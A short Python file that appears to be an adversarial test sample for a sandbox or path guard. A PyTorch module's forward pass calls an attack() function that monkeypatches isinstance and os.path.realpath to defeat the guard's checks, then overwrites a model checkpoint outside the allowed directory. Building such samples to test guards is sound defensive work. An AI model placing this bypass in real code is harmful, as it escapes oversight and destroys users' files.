"""Overrides functions that the guard calls, then overwrites a file."""

import builtins
import os

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    isinstance_, realpath = builtins.isinstance, os.path.realpath
    builtins.isinstance = lambda value, kind: False if kind in (str | bytes, int) else isinstance_(value, kind)
    os.path.realpath = lambda path, **options: os.getcwd()
    try:
        with open(PLACES["outside"] + "/best.pt", "w") as file:
            file.write("gone")
    finally:
        builtins.isinstance, os.path.realpath = isinstance_, realpath


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
